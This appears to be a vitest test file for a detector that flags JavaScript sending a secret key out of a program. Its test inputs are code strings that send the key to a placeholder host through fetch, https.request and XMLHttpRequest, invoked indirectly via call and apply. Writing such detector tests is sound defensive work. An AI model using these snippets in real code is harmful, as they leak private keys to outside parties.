import { describe, expect, it } from 'vitest';
import { keySentInJavaScript } from './testing/keySent.ts';

describe('a function from outside that is called by its own call and apply', () => {
  it.each([
    ['call', `fetch.call(null, 'https://a.example.invalid/' + k)`],
    ['apply', `fetch.apply(null, ['https://a.example.invalid/' + k])`],
    ['call of a member', `require('https').request.call(null, { host: 'a.example.invalid', path: k })`],
    ['call of a prototype', `const x = new XMLHttpRequest(); XMLHttpRequest.prototype.send.call(x, k)`],
  ])('%s', async (_, body) => {
    expect(await keySentInJavaScript('', body)).toEqual(['high']);
  });
  it.each([
    ['a hash', `fetch('https://a.example.invalid/' + require('crypto').hash.call(null, 'sha256', k))`],
    ['the public half', `fetch('https://a.example.invalid/' + require('secp256k1').publicKeyCreate.call(null, k))`],
    ['what is looked up', `require('dns').lookup.call(null, 'a.example.invalid', k)`],
  ])('%s is none', async (_, body) => {
    expect(await keySentInJavaScript('', body)).toEqual([]);
  });
});
